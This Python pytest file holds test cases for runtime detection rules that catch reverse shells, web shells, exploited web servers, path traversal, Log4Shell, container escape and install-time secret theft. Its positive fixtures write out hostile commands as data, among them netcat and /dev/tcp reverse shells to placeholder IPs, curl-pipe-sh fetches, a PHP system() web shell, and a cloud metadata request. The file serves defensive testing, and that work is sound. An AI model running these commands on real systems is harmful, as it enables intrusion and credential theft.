"""Shells and exploited servers."""

from __future__ import annotations

import pytest

from tests.detection.runtime_events import HOST, Case, Cases, moved, raised, ran, rows, wrote

CASES: Cases = {
    "RT-0501": (
        [
            ran("sh", stdio=("socket", "socket", "socket"), peer="203.0.113.9:4444", by=["conmon -c x", "systemd"]),
            ran("sh -i", stdio=("socket", "socket", "socket"), peer="192.0.2.9:443"),
            ran("sh", stdio=("socket", "pipe", "pipe"), peer="192.0.2.9:443"),
            ran("bash -c '{rm,f};{mkfifo,f};{cat,f}|{sh,-i}|{nc,192.0.2.9,4444}>f'"),
            ran("busybox sh -c 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 192.0.2.9 4444 >f'"),
            ran("bash -c 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1'"),
            ran("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((1,2));os.dup2(s.fileno(),0)'"),
            ran("sh -c 'rm f;mkfifo f;cat f|sh -i 2>&1|nc 192.0.2.9 4444 >f'"),
        ],
        [
            ran("bash -c '</dev/tcp/db/5432'"),
            ran("sh", stdio=("socket", "socket", "socket"), peer="127.0.0.1:80"),
            ran("bash", stdio=("socket", "socket", "socket"), peer="192.0.2.9:4", by=["sshd"]),
            ran("sh", stdio=("pipe", "pipe", "pipe")),
            ran("sh /srv/serve.sh", stdio=("socket", "pipe", "pipe"), peer="192.0.2.9:443"),
        ],
    ),
    "RT-0502": (
        [
            ran("whoami", by=["sh -c whoami", "apache2"]),
            ran("sh -c 'curl http://x.example'", by=["php-fpm8.2"]),
            ran("id", by=["php -S 0:80"]),
            ran("sh -c id", by=["python /usr/bin/flask worker", "listening:python /usr/bin/flask run"]),
            ran("uname -a", by=["sh -c 'uname -a; ls'", "listening:/app/server"]),
            ran("sh -c 'curl http://x.example/a|sh'", by=["listening:dotnet App.dll"]),
        ],
        [
            ran("sh -c 'convert a b'", by=["php-fpm"]),
            ran("whoami", by=["bash"]),
            ran("whoami", by=["sh", "crond", "nginx"]),
            ran("sh -c id", by=["python /usr/bin/flask run"]),
            ran("sh -c 'git rev-parse HEAD'", by=["listening:/app/server"]),
            ran("sh -c id", by=["listening:sshd -D"]),
            ran("sh -c id", by=["listening:python -m jupyter lab"]),
            ran("sh -c id", by=["/app/job", "listening:/app/server"]),
            ran("sh -c id", by=["listening:/usr/lib/postgresql/15/bin/postgres"]),
            ran("sh -c id", by=["listening:/app/server"], where=HOST),
            ran("bash -c id", by=["listening:/app/server"], tty="pts0"),
        ],
    ),
    "RT-0503": (
        [wrote("/var/www/html/x.php", "apache2"), moved("/var/www/html/up.jsp", "mv a b")],
        [
            wrote("/var/www/html/x.css", "apache2"),
            wrote("/var/www/html/cache/x.php", "apache2"),
            wrote("/var/www/html/x.php", "dpkg -i x"),
            wrote("/opt/x.php", "apache2"),
            wrote("/var/www/html/x.php", "apache2", writes=False),
        ],
    ),
    "RT-0504": (
        [ran("bash", tty="pts0", entered=True)],
        [
            ran("bash", entered=True),
            ran("bash", tty="pts0", where=HOST),
            ran("bash -c ls", tty="pts0"),
            ran("bash", tty="pts0", by=["sh"]),
        ],
    ),
    "RT-0505": (
        [
            ran("php -r 'system($_GET[0]);'"),
            ran("php -d auto_prepend_file=php://input x.php"),
            ran("sh -c 'cat /etc/passwd'", by=["php-fpm8.2"]),
        ],
        [ran("php -r 'echo PHP_VERSION;'"), ran("sh -c 'convert a b'", by=["php-fpm"]), ran("php artisan queue:work")],
    ),
    "RT-0506": (
        [ran("sh -c id", by=["postgres"]), ran("curl http://x.example", by=["sh", "redis-server"])],
        [
            ran("sh -c 'wal-g wal-push x'", by=["postgres"]),
            ran("sh -c id", by=["docker-entrypoint", "postgres"]),
            ran("postgres", by=["postgres"]),
        ],
    ),
    "RT-0507": (
        [
            ran("curl http://x.example/a", by=["java -jar app.jar"]),
            ran("sh -c 'wget http://x.example'", by=["java -jar app.jar"]),
            ran("whoami", by=["java -jar app.jar"]),
        ],
        [
            ran("sh -c 'curl x'", by=["java -jar jenkins.war"]),
            ran("sh -c 'locale'", by=["java -jar app.jar"]),
            ran("java -version", by=["java -jar a.jar"]),
        ],
    ),
    "RT-0508": (
        [
            ran("sh -c 'curl http://x.example | sh'", by=["node /app/node_modules/next/dist/bin/next start"]),
            ran("whoami", by=["sh -c whoami", "next-server"]),
        ],
        [
            ran("sh -c 'curl http://x.example'", by=["node /usr/bin/npm install", "npm install"]),
            ran("sh -c 'git rev-parse HEAD'", by=["node server.js"]),
            ran("ps", by=["sh -c ps", "node server.js"]),
        ],
    ),
    "RT-0509": (
        [ran("cat ../../../../etc/passwd", by=["nginx"]), ran("sh -c 'x %2e%2e/%2e%2e/'", by=["httpd"])],
        [ran("cat ../../../../etc/passwd", by=["bash"]), ran("cat ../lib/x", by=["nginx"])],
    ),
    "RT-0510": (
        [
            ran("curl -H 'X: ${jndi:ldap://x.example/a}' http://t.example"),
            ran("app", environment={"GLIBC_TUNABLES": "glibc.malloc.mxfast=glibc.malloc.mxfast=A"}),
            ran("sh -c 'chroot /host bash'"),
        ],
        [
            ran("grep -r '${jndi:' /var/log"),
            ran("app", environment={"GLIBC_TUNABLES": "glibc.malloc.check=1"}),
            ran("chroot /srv/jail app"),
        ],
    ),
    "RT-0511": (
        [ran("nohup /tmp/.x"), ran("sh -c 'nohup /dev/shm/a &'"), ran("setsid ./.hid", cwd="/opt")],
        [
            ran("nohup nice", cwd="/tmp/x"),
            ran("sh -c 'nohup app'", cwd="/tmp"),
            ran("nohup /opt/app"),
            ran("sh -c 'nohup app &'"),
            ran("sh -c 'echo nohup'"),
        ],
    ),
    "RT-0512": (
        [
            ran("trufflehog filesystem /", by=["sh -c x", "npm install"]),
            ran("curl http://169.254.169.254/x", environment={"npm_lifecycle_event": "postinstall"}),
        ],
        [ran("trufflehog filesystem /", by=["gitlab-runner"]), ran("node-gyp rebuild", by=["npm install"])],
    ),
    "RT-0513": (
        [[ran(c, at=n) for n, c in enumerate(["id", "uname -a", "ps aux", "ip a", "cat /etc/os-release"])]],
        [
            [ran(c, at=n) for n, c in enumerate(["id", "uname -a", "ps aux", "ip a"])],
            [ran("id", at=n) for n in range(6)],
            [ran(f"mount -t tmpfs none /mnt/{n}", at=n) for n in range(6)],
            [ran(f"/usr/bin/env bash /srv/{n}.sh", at=n) for n in range(6)],
            [ran(c, at=n, session=n) for n, c in enumerate(["id", "uname -a", "ps aux", "ip a", "whoami"])],
            [ran(c, at=n * 100) for n, c in enumerate(["id", "uname -a", "ps aux", "ip a", "whoami"])],
        ],
    ),
    "RT-0514": (
        [ran("bash", where=HOST, tty="pts0", uid=33)],
        [
            ran("bash", where=HOST, tty="pts0", uid=1000),
            ran("bash", where=HOST, tty="pts0", uid=33, by=["su -s /bin/bash www-data"]),
            ran("bash", where=HOST, uid=33),
        ],
    ),
}


@pytest.mark.parametrize(("rule", "case", "fires"), rows(CASES))
def test_shells(rule: str, case: Case, fires: bool) -> None:
    assert raised(rule, case) is fires
